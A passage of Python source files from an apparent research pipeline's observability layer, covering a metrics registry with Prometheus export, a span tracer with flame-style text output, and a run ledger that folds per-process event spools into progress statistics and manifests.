        _emitter.set_context(**attrs)


def clear_context() -> None:
    if _emitter is not None:
        _emitter.clear_context()


__all__ = [
    "EVENT_KINDS",
    "SPOOL_GLOB",
    "TERMINAL_KINDS",
    "SpoolEmitter",
    "clear_context",
    "emit",
    "enabled",
    "install",
    "set_context",
    "uninstall",
]
