"""Process-local metrics registry (counters, gauges, histograms, timers).

Zero-dependency analogue of a Prometheus client: metric *families* are
registered by name, each family holds one instrument per label set, and the
whole registry exports as JSON or Prometheus text exposition format.

Design constraints (this sits on hot paths — the API dispatcher and the
vaccine daemon call into it once per guest API call):

* instrument handles are plain objects with an ``inc``/``set``/``observe``
  method — callers may cache them and skip the registry lookup entirely;
* when the registry is disabled (``obs.disabled()``), accessors hand out
  shared null instruments so instrumented code pays one attribute check;
* label cardinality is capped per family (:data:`MAX_LABEL_SETS`); overflow
  label sets share one null instrument and are counted in
  ``registry.dropped_label_sets`` instead of growing without bound.

Everything is process-local and GIL-consistent; a single lock guards only
family/child *creation*, never the increment fast path.
"""

from __future__ import annotations

import threading
import time
from typing import Dict, Iterator, List, Optional, Sequence, Tuple

from .log import get_logger

#: Hard cap on distinct label sets per metric family (cardinality guard).
MAX_LABEL_SETS = 512

#: Side-channel counter: label sets dropped by the cap, one series per
#: overflowing family — so a runaway-cardinality bug is visible in every
#: snapshot instead of failing silently.
DROPPED_LABEL_SETS_METRIC = "obs.dropped_label_sets"

_log = get_logger("obs.metrics")

#: Default histogram buckets — tuned for sub-second pipeline phases
#: (seconds): 100µs … 30s, roughly log-spaced.
DEFAULT_BUCKETS: Tuple[float, ...] = (
    0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025,
    0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0, 30.0,
)

LabelKey = Tuple[Tuple[str, str], ...]


def _label_key(labels: Dict[str, object]) -> LabelKey:
    return tuple(sorted((k, str(v)) for k, v in labels.items()))


class Counter:
    """Monotonically increasing value."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0.0

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount


class Gauge:
    """A value that can go up and down."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0.0

    def set(self, value: float) -> None:
        self.value = float(value)

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount


class Histogram:
    """Fixed-bucket histogram with sum/count/min/max.

    ``bucket_counts[i]`` counts observations ``<= buckets[i]``; one overflow
    slot at the end counts the rest (the ``+Inf`` bucket).  Counts are
    *non-cumulative* internally; the Prometheus exporter accumulates.
    """

    __slots__ = ("buckets", "bucket_counts", "count", "sum", "min", "max")

    def __init__(self, buckets: Sequence[float] = DEFAULT_BUCKETS) -> None:
        self.buckets: Tuple[float, ...] = tuple(sorted(buckets))
        self.bucket_counts: List[int] = [0] * (len(self.buckets) + 1)
        self.count = 0
        self.sum = 0.0
        self.min: Optional[float] = None
        self.max: Optional[float] = None

    def observe(self, value: float) -> None:
        self.count += 1
        self.sum += value
        if self.min is None or value < self.min:
            self.min = value
        if self.max is None or value > self.max:
            self.max = value
        for i, bound in enumerate(self.buckets):
            if value <= bound:
                self.bucket_counts[i] += 1
                return
        self.bucket_counts[-1] += 1

    @property
    def mean(self) -> float:
        return self.sum / self.count if self.count else 0.0

    def merge_series(self, series: Dict[str, object]) -> None:
        """Fold one snapshot histogram series (see
        :meth:`MetricsRegistry.snapshot`) into this histogram.

        Identical bucket layouts merge element-wise; a foreign layout is
        re-binned by upper bound (each foreign bucket's count lands in the
        first local bucket whose bound covers it — a conservative coarsening,
        never a loss: count/sum/min/max stay exact either way).
        """
        self.count += int(series.get("count", 0))
        self.sum += float(series.get("sum", 0.0))
        for attr in ("min", "max"):
            other = series.get(attr)
            if other is None:
                continue
            mine = getattr(self, attr)
            pick = min if attr == "min" else max
            setattr(self, attr, float(other) if mine is None else pick(mine, float(other)))
        bounds = tuple(float(b) for b in series.get("buckets", ()))
        counts = [int(c) for c in series.get("bucket_counts", ())]
        if len(counts) != len(bounds) + 1:
            return
        if bounds == self.buckets:
            for i, c in enumerate(counts):
                self.bucket_counts[i] += c
            return
        for bound, c in zip(bounds, counts):
            for i, own_bound in enumerate(self.buckets):
                if bound <= own_bound:
                    self.bucket_counts[i] += c
                    break
            else:
                self.bucket_counts[-1] += c
        self.bucket_counts[-1] += counts[-1]


class Timer:
    """Context manager observing elapsed monotonic seconds into a histogram."""

    __slots__ = ("histogram", "_started", "elapsed")

    def __init__(self, histogram: Histogram) -> None:
        self.histogram = histogram
        self._started = 0.0
        self.elapsed = 0.0

    def __enter__(self) -> "Timer":
        self._started = time.perf_counter()
        return self

    def __exit__(self, *exc) -> None:
        self.elapsed = time.perf_counter() - self._started
        self.histogram.observe(self.elapsed)


class _NullInstrument:
    """Absorbs every instrument operation; handed out when disabled or when
    a family overflowed its label-set cap."""

    __slots__ = ()
    value = 0.0
    count = 0
    sum = 0.0
    mean = 0.0
    elapsed = 0.0

    def inc(self, amount: float = 1.0) -> None:
        pass

    def dec(self, amount: float = 1.0) -> None:
        pass

    def set(self, value: float) -> None:
        pass

    def observe(self, value: float) -> None:
        pass

    def __enter__(self) -> "_NullInstrument":
        return self

    def __exit__(self, *exc) -> None:
        pass


NULL = _NullInstrument()


class Family:
    """All instruments sharing one metric name, keyed by label set."""

    def __init__(self, name: str, kind: str, help: str, factory) -> None:
        self.name = name
        self.kind = kind
        self.help = help
        self._factory = factory
        self.children: Dict[LabelKey, object] = {}
        self._warned_overflow = False

    def get(self, labels: Dict[str, object], registry: "MetricsRegistry"):
        key = _label_key(labels)
        child = self.children.get(key)
        if child is None:
            overflowed = warn = False
            with registry._lock:
                child = self.children.get(key)
                if child is None:
                    if len(self.children) >= MAX_LABEL_SETS:
                        registry.dropped_label_sets += 1
                        overflowed = True
                        warn = not self._warned_overflow
                        self._warned_overflow = True
                        child = NULL
                    else:
                        child = self._factory()
                        self.children[key] = child
            if overflowed:
                # Outside the lock: _note_overflow creates another family and
                # the creation lock is non-reentrant.
                registry._note_overflow(self.name, warn)
        return child


class MetricsRegistry:
    """The process-local registry. One global instance lives at ``obs.metrics``."""

    def __init__(self) -> None:
        self.enabled = True
        self.dropped_label_sets = 0
        #: Bumped on every reset(); callers holding cached instrument handles
        #: compare generations to know when their handles went stale.
        self.generation = 0
        self._families: Dict[str, Family] = {}
        self._lock = threading.Lock()

    # -- accessors ---------------------------------------------------------

    def counter(self, name: str, help: str = "", **labels) -> Counter:
        if not self.enabled:
            return NULL  # type: ignore[return-value]
        return self._family(name, "counter", help, Counter).get(labels, self)

    def gauge(self, name: str, help: str = "", **labels) -> Gauge:
        if not self.enabled:
            return NULL  # type: ignore[return-value]
        return self._family(name, "gauge", help, Gauge).get(labels, self)

    def histogram(
        self,
        name: str,
        help: str = "",
        buckets: Sequence[float] = DEFAULT_BUCKETS,
        **labels,
    ) -> Histogram:
        if not self.enabled:
            return NULL  # type: ignore[return-value]
        family = self._family(name, "histogram", help, lambda: Histogram(buckets))
        return family.get(labels, self)

    def timer(self, name: str, help: str = "", **labels) -> Timer:
        if not self.enabled:
            return NULL  # type: ignore[return-value]
        return Timer(self.histogram(name, help=help, **labels))

    def _note_overflow(self, name: str, warn: bool) -> None:
        """Count (and, once per family, warn about) a dropped label set.

        Skips the side channel when the overflowing family *is* the overflow
        counter itself — otherwise a pathological run with more than
        :data:`MAX_LABEL_SETS` overflowing families would recurse.
        """
        if name != DROPPED_LABEL_SETS_METRIC:
            self.counter(
                DROPPED_LABEL_SETS_METRIC,
                help="label sets dropped by the per-family cardinality cap",
                metric=name,
            ).inc()
        if warn:
            _log.warning(
                "label-set cap hit; further series dropped",
                metric=name,
                cap=MAX_LABEL_SETS,
            )

    def _family(self, name: str, kind: str, help: str, factory) -> Family:
        family = self._families.get(name)
        if family is None:
            with self._lock:
                family = self._families.get(name)
                if family is None:
                    family = Family(name, kind, help, factory)
                    self._families[name] = family
        if family.kind != kind:
            raise TypeError(
                f"metric {name!r} already registered as {family.kind}, not {kind}"
            )
        return family

    # -- reads -------------------------------------------------------------

    def value(self, name: str, **labels) -> float:
        """Current value of a counter/gauge (0.0 when absent)."""
        family = self._families.get(name)
        if family is None:
            return 0.0
        child = family.children.get(_label_key(labels))
        return getattr(child, "value", 0.0) if child is not None else 0.0

    def total(self, name: str) -> float:
        """Sum of a counter family across all label sets."""
        family = self._families.get(name)
        if family is None:
            return 0.0
        return sum(getattr(c, "value", 0.0) for c in family.children.values())

    def families(self) -> Iterator[Family]:
        return iter(list(self._families.values()))

    def reset(self) -> None:
        with self._lock:
            self._families.clear()
            self.dropped_label_sets = 0
            self.generation += 1

    # -- merging -----------------------------------------------------------

    def merge(self, snapshot: Dict[str, object]) -> None:
        """Fold a :meth:`snapshot` dict (e.g. from a worker process) into
        this registry.

        Counters and histograms add; gauges fold *additively* as well, which
        makes "merged totals == sum of worker snapshots" hold uniformly —
        gauges whose last-writer semantics matter (population progress) are
        owned by the parent and never appear in worker snapshots.  No-op when
        the registry is disabled.
        """
        if not self.enabled:
            return
        for name in sorted(snapshot):
            family = snapshot[name]
            kind = family.get("kind")
            help_text = str(family.get("help", ""))
            for series in family.get("series", ()):
                labels = {str(k): v for k, v in series.get("labels", {}).items()}
                if kind == "counter":
                    self.counter(name, help=help_text, **labels).inc(
                        float(series.get("value", 0.0))
                    )
                elif kind == "gauge":
                    self.gauge(name, help=help_text, **labels).inc(
                        float(series.get("value", 0.0))
                    )
                elif kind == "histogram":
                    hist = self.histogram(
                        name,
                        help=help_text,
                        buckets=tuple(series.get("buckets", DEFAULT_BUCKETS)),
                        **labels,
                    )
                    if isinstance(hist, Histogram):
                        hist.merge_series(series)

    # -- exporters ---------------------------------------------------------

    def snapshot(self) -> Dict[str, object]:
        """JSON-safe dump of every family."""
        out: Dict[str, object] = {}
        for family in self.families():
            series = []
            for key, child in sorted(family.children.items()):
                labels = dict(key)
                if isinstance(child, Histogram):
                    series.append({
                        "labels": labels,
                        "count": child.count,
                        "sum": child.sum,
                        "min": child.min,
                        "max": child.max,
                        "buckets": list(child.buckets),
                        "bucket_counts": list(child.bucket_counts),
                    })
                else:
                    series.append({"labels": labels, "value": child.value})
            out[family.name] = {
                "kind": family.kind,
                "help": family.help,
                "series": series,
            }
        return out

    def to_prometheus(self) -> str:
        """Prometheus text exposition format (``repro_`` namespace)."""
        return prometheus_text(self.snapshot())


def _prom_name(name: str) -> str:
    return "repro_" + name.replace(".", "_").replace("-", "_")


def _prom_labels(labels: Dict[str, str], extra: str = "") -> str:
    parts = [f'{k}="{v}"' for k, v in sorted(labels.items())]
    if extra:
        parts.append(extra)
    return "{" + ",".join(parts) + "}" if parts else ""


def prometheus_text(snapshot: Dict[str, object]) -> str:
    """Render a :meth:`MetricsRegistry.snapshot` dict as Prometheus text.

    Works on live registries and on snapshots loaded back from JSON, so the
    ``stats`` subcommand can re-emit scrapable text from a captured file.
    """
    lines: List[str] = []
    for name in sorted(snapshot):
        family = snapshot[name]
        prom = _prom_name(name)
        if family["help"]:
            lines.append(f"# HELP {prom} {family['help']}")
        lines.append(f"# TYPE {prom} {family['kind']}")
        for series in family["series"]:
            labels = series["labels"]
            if family["kind"] == "histogram":
                cumulative = 0
                bounds = list(series["buckets"]) + ["+Inf"]
                for bound, bucket_count in zip(bounds, series["bucket_counts"]):
                    cumulative += bucket_count
                    le = bound if bound == "+Inf" else repr(float(bound))
                    le_label = 'le="%s"' % le
                    lines.append(
                        f"{prom}_bucket{_prom_labels(labels, le_label)} {cumulative}"
                    )
                lines.append(f"{prom}_sum{_prom_labels(labels)} {series['sum']}")
                lines.append(f"{prom}_count{_prom_labels(labels)} {series['count']}")
            else:
                suffix = "_total" if family["kind"] == "counter" else ""
                lines.append(f"{prom}{suffix}{_prom_labels(labels)} {series['value']}")
    return "\n".join(lines) + "\n"
