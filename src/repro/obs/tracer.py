"""Span-based tracer: nestable timed regions with attributes.

``with trace.span("impact", sample=name) as span:`` opens a span under the
currently active one (contextvar-scoped, so threads and generators nest
correctly), records wall time on exit — exception-safe, marking the span as
an error and re-raising — and files finished *root* spans into the tracer
for export as a JSON tree or a flame-style indented text summary.

This is deliberately not OpenTelemetry: no ids, no sampling, no wire
protocol — just the span tree the pipeline phases need for the paper's
§VI-F per-phase accounting.
"""

from __future__ import annotations

import time
from contextlib import contextmanager
from contextvars import ContextVar
from typing import Dict, Iterator, List, Optional

#: Keep at most this many finished root spans (oldest dropped first).
MAX_ROOT_SPANS = 10_000


class Span:
    """One timed region. ``duration`` is None while the span is open."""

    __slots__ = ("name", "attrs", "children", "start_unix", "duration", "status", "error")

    def __init__(self, name: str, attrs: Optional[Dict[str, object]] = None) -> None:
        self.name = name
        self.attrs: Dict[str, object] = dict(attrs or {})
        self.children: List["Span"] = []
        self.start_unix = time.time()
        self.duration: Optional[float] = None
        self.status = "ok"
        self.error: Optional[str] = None

    def set(self, **attrs: object) -> "Span":
        """Attach attributes to an open (or finished) span."""
        self.attrs.update(attrs)
        return self

    def child(self, name: str) -> Optional["Span"]:
        """First direct child with the given name, if any."""
        for span in self.children:
            if span.name == name:
                return span
        return None

    def total_seconds(self) -> float:
        return self.duration if self.duration is not None else 0.0

    def self_seconds(self) -> float:
        """Time not accounted for by children (flame-graph 'self' column)."""
        return max(0.0, self.total_seconds() - sum(c.total_seconds() for c in self.children))

    def to_dict(self) -> Dict[str, object]:
        out: Dict[str, object] = {
            "name": self.name,
            "start_unix": self.start_unix,
            "duration": self.duration,
            "status": self.status,
        }
        if self.attrs:
            out["attrs"] = dict(self.attrs)
        if self.error:
            out["error"] = self.error
        if self.children:
            out["children"] = [c.to_dict() for c in self.children]
        return out

    @classmethod
    def from_dict(cls, data: Dict[str, object]) -> "Span":
        """Rebuild a finished span tree from :meth:`to_dict` output — the
        transport half of shipping worker span trees back to the parent."""
        span = cls(str(data["name"]), data.get("attrs"))  # type: ignore[arg-type]
        span.start_unix = float(data.get("start_unix") or 0.0)
        duration = data.get("duration")
        span.duration = float(duration) if duration is not None else None
        span.status = str(data.get("status", "ok"))
        error = data.get("error")
        span.error = str(error) if error is not None else None
        span.children = [cls.from_dict(c) for c in data.get("children", ())]  # type: ignore[union-attr]
        return span

    def __repr__(self) -> str:  # pragma: no cover
        return f"Span({self.name!r}, duration={self.duration}, children={len(self.children)})"


class _NullSpan:
    """Handed out while tracing is disabled; absorbs everything."""

    __slots__ = ()
    name = ""
    attrs: Dict[str, object] = {}
    children: List[Span] = []
    duration: Optional[float] = None
    status = "ok"

    def set(self, **attrs: object) -> "_NullSpan":
        return self

    def child(self, name: str) -> None:
        return None

    def total_seconds(self) -> float:
        return 0.0


NULL_SPAN = _NullSpan()


class Tracer:
    """Process-local span collector. One global instance lives at ``obs.trace``."""

    def __init__(self) -> None:
        self.enabled = True
        self.roots: List[Span] = []
        self._current: ContextVar[Optional[Span]] = ContextVar("obs_span", default=None)

    def current(self) -> Optional[Span]:
        return self._current.get()

    @contextmanager
    def span(self, name: str, **attrs: object) -> Iterator[Span]:
        if not self.enabled:
            yield NULL_SPAN  # type: ignore[misc]
            return
        span = Span(name, attrs)
        parent = self._current.get()
        token = self._current.set(span)
        started = time.perf_counter()
        try:
            yield span
        except BaseException as exc:
            span.status = "error"
            span.error = f"{type(exc).__name__}: {exc}"
            raise
        finally:
            span.duration = time.perf_counter() - started
            self._current.reset(token)
            if parent is not None:
                parent.children.append(span)
            else:
                self.roots.append(span)
                if len(self.roots) > MAX_ROOT_SPANS:
                    del self.roots[: len(self.roots) - MAX_ROOT_SPANS]

    def adopt(self, span: Span) -> None:
        """File an already-finished span (e.g. decoded from a worker
        process) as a root, subject to the usual cap."""
        if not self.enabled:
            return
        self.roots.append(span)
        if len(self.roots) > MAX_ROOT_SPANS:
            del self.roots[: len(self.roots) - MAX_ROOT_SPANS]

    def reset(self) -> None:
        self.roots = []

    def to_dicts(self) -> List[Dict[str, object]]:
        return [span.to_dict() for span in self.roots]

    def flame(self, max_depth: int = 6, top: Optional[int] = None) -> str:
        """Indented per-root text summary (durations + % of root)."""
        return render_flame(self.to_dicts(), max_depth=max_depth, top=top)


def render_flame(
    spans: List[Dict[str, object]], max_depth: int = 6, top: Optional[int] = None
) -> str:
    """Flame-style text rendering of exported span dicts.

    Repeated root shapes (e.g. one ``pipeline.analyze`` per survey sample)
    are aggregated by name with call counts so population runs stay readable.
    ``top`` keeps only the ``top`` widest entries per level (roots by total
    time, children in recording order) with a ``+k more`` marker.
    """
    grouped: Dict[str, List[Dict[str, object]]] = {}
    for span in spans:
        grouped.setdefault(str(span["name"]), []).append(span)

    lines: List[str] = []
    names = sorted(grouped, key=lambda n: -_group_total(grouped[n]))
    shown = names if top is None else names[: max(1, top)]
    for name in shown:
        group = grouped[name]
        total = _group_total(group)
        lines.append(f"{name}  n={len(group)}  total={_fmt(total)}")
        _merge_children(
            lines, group, total or 1.0, depth=1, max_depth=max_depth, top=top
        )
    if len(shown) < len(names):
        lines.append(f"... +{len(names) - len(shown)} more root(s)")
    return "\n".join(lines) + ("\n" if lines else "")


def _group_total(group: List[Dict[str, object]]) -> float:
    return sum(float(s.get("duration") or 0.0) for s in group)


def _merge_children(lines, group, root_total, depth, max_depth, top=None) -> None:
    if depth > max_depth:
        return
    children: Dict[str, List[Dict[str, object]]] = {}
    order: List[str] = []
    for span in group:
        for child in span.get("children", ()):  # type: ignore[union-attr]
            name = str(child["name"])
            if name not in children:
                children[name] = []
                order.append(name)
            children[name].append(child)
    hidden = 0
    if top is not None and len(order) > top:
        hidden = len(order) - max(1, top)
        order = order[: max(1, top)]
    for name in order:
        child_group = children[name]
        total = _group_total(child_group)
        share = total / root_total if root_total else 0.0
        bar = "#" * max(1, int(share * 24)) if total else "."
        skipped = all(c.get("attrs", {}).get("skipped") for c in child_group)
        note = "  (skipped)" if skipped else ""
        errors = sum(1 for c in child_group if c.get("status") == "error")
        if errors:
            note += f"  errors={errors}"
        lines.append(
            f"{'  ' * depth}{name:<20s} n={len(child_group):<5d} "
            f"total={_fmt(total):>10s} {share:6.1%}  {bar}{note}"
        )
        _merge_children(lines, child_group, root_total, depth + 1, max_depth, top=top)
    if hidden:
        lines.append(f"{'  ' * depth}... +{hidden} more")


def _fmt(seconds: float) -> str:
    if seconds >= 1.0:
        return f"{seconds:.2f}s"
    if seconds >= 0.001:
        return f"{seconds * 1000:.1f}ms"
    return f"{seconds * 1_000_000:.0f}us"
