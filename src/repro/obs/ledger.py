"""Persistent run ledger: spool collector, live fold, and tail/list readers.

The folding half of the run-telemetry layer (:mod:`repro.obs.stream` is the
emission half).  A *run directory* holds everything one survey invocation
produced, readable while the run is still in flight:

* ``spool/events-<pid>.jsonl`` — per-process append-only event spools;
* ``ledger.jsonl`` — the folded, time-ordered event log the collector
  builds by tailing the spools (what ``repro tail`` replays);
* ``metrics.jsonl`` — periodic progress rows (throughput time-series);
* ``manifest.json`` — run id, config fingerprint, population size, status
  (``running`` → ``finished``) and final outcome counts; rewritten
  atomically so concurrent readers never see a torn file.

All readers tolerate a partial trailing line (a crashed writer's last
event): only bytes up to the final newline are consumed, the remainder is
re-read on the next poll.
"""

from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path
from typing import Dict, Iterator, List, Optional, Set, TextIO, Tuple, Union

from .stream import SPOOL_GLOB
from . import stream

LEDGER_NAME = "ledger.jsonl"
MANIFEST_NAME = "manifest.json"
METRICS_NAME = "metrics.jsonl"
PROFILE_NAME = "profile.jsonl"
SPOOL_DIR = "spool"
MANIFEST_VERSION = 1


# ---------------------------------------------------------------------------
# low-level file helpers
# ---------------------------------------------------------------------------


def _read_complete_lines(path: Path, offset: int) -> Tuple[List[bytes], int]:
    """Bytes-safe incremental read: the complete lines appended since
    ``offset`` and the new offset.  A trailing line with no newline yet is
    left for the next call — a writer may be mid-``write``."""
    try:
        with open(path, "rb") as fh:
            fh.seek(offset)
            chunk = fh.read()
    except OSError:
        return [], offset
    if not chunk:
        return [], offset
    end = chunk.rfind(b"\n")
    if end < 0:
        return [], offset
    complete = chunk[: end + 1]
    return complete.splitlines(), offset + len(complete)


def _parse_events(lines: List[bytes]) -> Tuple[List[dict], int]:
    """Decode JSONL lines; malformed *complete* lines are dropped and
    counted (a torn write from a process killed mid-line)."""
    events: List[dict] = []
    malformed = 0
    for line in lines:
        line = line.strip()
        if not line:
            continue
        try:
            event = json.loads(line.decode("utf-8", "replace"))
        except ValueError:
            malformed += 1
            continue
        if isinstance(event, dict):
            events.append(event)
        else:
            malformed += 1
    return events, malformed


def _write_atomic(path: Path, payload: dict) -> None:
    tmp = path.with_suffix(f".tmp.{os.getpid()}")
    tmp.write_text(json.dumps(payload, indent=2, sort_keys=True))
    tmp.replace(path)


def _pid_alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except OSError:
        return True
    return True


# ---------------------------------------------------------------------------
# manifest
# ---------------------------------------------------------------------------


def read_manifest(run_dir: Union[str, os.PathLike]) -> dict:
    """The run's manifest; raises :class:`ValueError` (with file and
    reason) when missing or corrupt — ``SystemExit``-friendly for the CLI."""
    path = Path(run_dir) / MANIFEST_NAME
    try:
        text = path.read_text()
    except OSError as exc:
        raise ValueError(f"{path}: not a run directory ({exc})") from None
    try:
        data = json.loads(text)
    except ValueError as exc:
        raise ValueError(f"{path}: corrupt run manifest ({exc})") from None
    if not isinstance(data, dict) or "run_id" not in data:
        raise ValueError(f"{path}: not a repro run manifest")
    return data


def manifest_status(manifest: dict) -> str:
    """``running`` / ``finished`` — plus ``stale`` when the recorded parent
    pid is gone but the manifest never flipped (a killed survey)."""
    status = str(manifest.get("status", "unknown"))
    if status == "running":
        pid = manifest.get("pid")
        if isinstance(pid, int) and not _pid_alive(pid):
            return "stale"
    return status


def list_runs(root: Union[str, os.PathLike]) -> List[dict]:
    """Manifests of every run directory directly under ``root`` (oldest
    first).  Unreadable manifests are skipped — a listing should never die
    on one corrupt run."""
    root = Path(root)
    out: List[dict] = []
    candidates = [root] if (root / MANIFEST_NAME).exists() else sorted(root.glob("*"))
    for entry in candidates:
        if not (entry / MANIFEST_NAME).is_file():
            continue
        try:
            manifest = read_manifest(entry)
        except ValueError:
            continue
        manifest["_path"] = str(entry)
        out.append(manifest)
    out.sort(key=lambda m: m.get("started_unix", 0.0))
    return out


# ---------------------------------------------------------------------------
# fold: running aggregates over the event stream
# ---------------------------------------------------------------------------


class LedgerFold:
    """Counts and rates derived from the events seen so far — the state
    behind the ``--progress`` view and the periodic metrics rows.

    Two clocks, deliberately: ``started_unix`` is *wall* time (it labels
    the run for humans and the manifest), but elapsed time behind
    ``rate``/``eta_seconds`` is measured on ``clock`` — ``time.monotonic``
    by default — so an NTP step or a manual clock change mid-run cannot
    produce negative or wildly wrong throughput.  Passing an explicit
    ``now=`` to the derived views bypasses the monotonic clock and computes
    against ``started_unix`` on the caller's timeline (the deterministic
    path tests use)."""

    def __init__(
        self,
        population: int = 0,
        started_unix: Optional[float] = None,
        clock=time.monotonic,
    ) -> None:
        self.population = population
        self.started_unix = started_unix if started_unix is not None else time.time()
        self._clock = clock
        self._started_mono = clock()
        self.completed = 0
        self.failed = 0
        self.retries = 0
        self.timeouts = 0
        self.cache_hits = 0
        self.events_seen = 0
        self.malformed = 0
        self.active: Set[object] = set()
        self.retrying: Set[object] = set()
        self._terminal: Set[object] = set()
        #: phase name -> [count, total seconds, max seconds]
        self.phases: Dict[str, List[float]] = {}

    # -- folding -----------------------------------------------------------

    def apply(self, event: dict) -> None:
        self.events_seen += 1
        kind = event.get("kind")
        key = event.get("index", event.get("sample"))
        if kind == "sample.started":
            self.active.add(key)
            self.retrying.discard(key)
        elif kind == "sample.phase":
            name = str(event.get("phase", "?"))
            seconds = float(event.get("seconds", 0.0) or 0.0)
            stat = self.phases.setdefault(name, [0, 0.0, 0.0])
            stat[0] += 1
            stat[1] += seconds
            stat[2] = max(stat[2], seconds)
        elif kind == "sample.retry":
            self.retries += 1
            self.retrying.add(key)
            self.active.discard(key)
        elif kind == "sample.timeout":
            self.timeouts += 1
        elif kind == "cache.hit":
            self.cache_hits += 1
        elif kind == "sample.completed":
            if key not in self._terminal:
                self._terminal.add(key)
                self.completed += 1
            self.active.discard(key)
            self.retrying.discard(key)
        elif kind == "sample.failed":
            if key not in self._terminal:
                self._terminal.add(key)
                self.failed += 1
            self.active.discard(key)
            self.retrying.discard(key)

    # -- derived views -----------------------------------------------------

    @property
    def done(self) -> int:
        return self.completed + self.failed

    @property
    def queued(self) -> int:
        return max(
            0, self.population - self.done - len(self.active) - len(self.retrying)
        )

    def elapsed(self, now: Optional[float] = None) -> float:
        """Seconds since the fold started: monotonic by default, or
        ``now - started_unix`` when the caller supplies its own timeline."""
        if now is not None:
            return now - self.started_unix
        return self._clock() - self._started_mono

    def rate(self, now: Optional[float] = None) -> float:
        elapsed = self.elapsed(now)
        return self.done / elapsed if elapsed > 0 else 0.0

    def eta_seconds(self, now: Optional[float] = None) -> Optional[float]:
        rate = self.rate(now)
        if rate <= 0 or self.population <= 0:
            return None
        return max(0.0, (self.population - self.done) / rate)

    def metrics_row(self, now: Optional[float] = None) -> dict:
        # The "t" column is a wall-clock timestamp (readers correlate rows
        # with ledger events and manifests); the rate is monotonic-based
        # unless the caller pinned its own timeline via ``now``.
        t = now if now is not None else time.time()
        return {
            "t": t,
            "done": self.done,
            "completed": self.completed,
            "failed": self.failed,
            "retries": self.retries,
            "timeouts": self.timeouts,
            "cache_hits": self.cache_hits,
            "active": len(self.active),
            "retrying": len(self.retrying),
            "queued": self.queued,
            "rate_per_s": round(self.rate(now), 3),
        }

    def phase_summary(self, limit: int = 4) -> str:
        """Compact mean-latency digest of the hottest phases."""
        rows = sorted(self.phases.items(), key=lambda kv: kv[1][1], reverse=True)
        parts = [
            f"{name} {1000.0 * total / count:.0f}ms"
            for name, (count, total, _mx) in rows[:limit]
            if count
        ]
        return " ".join(parts)

    def progress_line(self, now: Optional[float] = None) -> str:
        eta = self.eta_seconds(now)
        eta_text = _fmt_duration(eta) if eta is not None else "?"
        line = (
            f"{self.done}/{self.population or '?'} done "
            f"({self.completed} ok, {self.failed} failed) | "
            f"active {len(self.active)} retrying {len(self.retrying)} "
            f"queued {self.queued} | {self.rate(now):.1f}/s eta {eta_text}"
        )
        if self.cache_hits:
            line += f" | cache {self.cache_hits}"
        phases = self.phase_summary()
        if phases:
            line += f" | {phases}"
        return line


def _fmt_duration(seconds: float) -> str:
    if seconds >= 3600:
        return f"{seconds / 3600:.1f}h"
    if seconds >= 60:
        return f"{seconds / 60:.1f}m"
    return f"{seconds:.0f}s"


# ---------------------------------------------------------------------------
# progress view
# ---------------------------------------------------------------------------


class ProgressView:
    """Renders a :class:`LedgerFold` live: a rewritten status line on a TTY,
    periodic plain log lines otherwise."""

    def __init__(
        self, out: Optional[TextIO] = None, interval: Optional[float] = None
    ) -> None:
        self.out = out if out is not None else sys.stderr
        isatty = getattr(self.out, "isatty", None)
        self.tty = bool(isatty and isatty())
        self.interval = interval if interval is not None else (0.1 if self.tty else 5.0)
        self._last = 0.0
        self._width = 0

    def update(self, fold: LedgerFold, force: bool = False) -> None:
        now = time.monotonic()
        if not force and now - self._last < self.interval:
            return
        self._last = now
        line = fold.progress_line()
        if self.tty:
            padded = line.ljust(self._width)
            self._width = len(line)
            self.out.write("\r" + padded)
        else:
            self.out.write(line + "\n")
        self.out.flush()

    def close(self, fold: LedgerFold) -> None:
        self.update(fold, force=True)
        if self.tty:
            self.out.write("\n")
            self.out.flush()


# ---------------------------------------------------------------------------
# collector + run telemetry
# ---------------------------------------------------------------------------


class Collector:
    """Tails the spool files and folds their events into ``ledger.jsonl``.

    Per-file byte offsets persist across :meth:`drain` calls; each drain
    batch is merged across spools by ``(t, pid, seq)`` so a sample's
    worker-side events land before the parent's terminal verdict."""

    def __init__(self, run_dir: Path, fold: LedgerFold) -> None:
        self.run_dir = run_dir
        self.spool_dir = run_dir / SPOOL_DIR
        self.fold = fold
        self._offsets: Dict[Path, int] = {}
        self._ledger_fh = open(run_dir / LEDGER_NAME, "a", encoding="utf-8")

    def drain(self) -> List[dict]:
        batch: List[dict] = []
        for path in sorted(self.spool_dir.glob(SPOOL_GLOB)):
            lines, offset = _read_complete_lines(path, self._offsets.get(path, 0))
            self._offsets[path] = offset
            events, malformed = _parse_events(lines)
            self.fold.malformed += malformed
            batch.extend(events)
        if not batch:
            return batch
        batch.sort(
            key=lambda e: (e.get("t", 0.0), e.get("pid", 0), e.get("seq", 0))
        )
        for event in batch:
            self._ledger_fh.write(json.dumps(event, default=repr) + "\n")
            self.fold.apply(event)
        self._ledger_fh.flush()
        return batch

    def close(self) -> None:
        try:
            self._ledger_fh.close()
        except OSError:  # pragma: no cover - best effort by contract
            pass


class RunTelemetry:
    """One run's telemetry session, owned by the executor parent: installs
    the parent's spool emitter, drains worker spools into the ledger, keeps
    the metrics time-series, and finalizes the manifest."""

    def __init__(
        self,
        run_dir: Path,
        manifest: dict,
        collector: Collector,
        progress: Optional[ProgressView] = None,
        metrics_interval: float = 1.0,
        clock=time.monotonic,
    ) -> None:
        self.run_dir = run_dir
        self.manifest = manifest
        self.collector = collector
        self.fold = collector.fold
        self.progress = progress
        self.metrics_interval = metrics_interval
        # Pacing and the final duration run on the monotonic clock; the
        # manifest's started/finished timestamps stay wall-clock.
        self._clock = clock
        self._started_mono = clock()
        self._metrics_last = 0.0
        self._finished = False

    @classmethod
    def begin(
        cls,
        run_dir: Union[str, os.PathLike],
        population: int,
        config_fingerprint: str = "",
        run_id: Optional[str] = None,
        progress: Optional[ProgressView] = None,
        metrics_interval: float = 1.0,
